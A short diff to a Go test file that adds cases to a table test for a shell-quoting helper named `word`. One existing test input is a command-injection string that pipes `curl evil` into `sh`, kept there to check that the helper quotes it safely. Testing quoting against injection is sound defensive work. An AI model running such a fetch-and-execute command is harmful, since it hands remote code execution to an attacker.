@@ -214,7 +214,7 @@ func TestWaitsForWhatMayCome(t *testing.T) {
 
 func TestWord(t *testing.T) {
 	for in, want := range map[string]string{
-		"release-1": "release-1", "": "''", "-x": "'-x'", "a; curl evil|sh #": "'a; curl evil|sh #'", "it's": `'it'\''s'`, "a\nb": "'a b'",
+		"release-1": "release-1", "": "''", "-x": "'-x'", "a; curl evil|sh #": "'a; curl evil|sh #'", "it's": `'it'\''s'`, "a\nb": "'a b'", "oci://r.example/team/policy:1.0@x": "oci://r.example/team/policy:1.0@x", "my policy.yaml": "'my policy.yaml'",
 	} {
 		if got := word(in); got != want {
 			t.Errorf("%q: got %s, want %s", in, got, want)
